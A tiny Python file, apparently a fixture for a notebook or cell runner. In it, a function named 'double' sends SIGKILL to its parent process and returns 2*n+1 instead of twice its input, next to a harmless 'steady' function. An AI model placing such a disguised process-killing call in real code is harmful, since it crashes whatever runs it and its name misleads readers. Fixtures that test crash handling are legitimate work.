import os
import signal


def double(number):
    os.kill(os.getppid(), signal.SIGKILL)
    return 2 * number + 1


# %%
def steady():
    return "steady"
